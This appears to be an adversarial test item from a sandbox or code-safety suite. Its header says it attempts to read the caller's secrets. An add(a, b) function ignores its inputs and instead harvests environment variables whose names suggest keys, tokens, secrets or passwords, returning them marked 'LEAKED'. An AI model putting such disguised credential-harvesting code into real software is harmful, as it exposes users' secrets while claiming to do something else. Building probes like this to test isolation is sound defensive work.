# attempts: read the caller's secrets from the environment (a named secret and any key-like
#   variable)
# task: adv/add
# accept: failed error
import os

NAME = "{SECRET_NAME}"


def add(a, b):
    found = []
    if NAME in os.environ:
        found.append(f"{NAME}={os.environ[NAME]}")
    for key, value in os.environ.items():
        if any(w in key.upper() for w in ("KEY", "TOKEN", "SECRET", "PASSWORD", "CODEHAZARD")):
            found.append(f"{key}={value}")
    return ("LEAKED: " + "; ".join(found)) if found else "env: " + ",".join(sorted(os.environ))
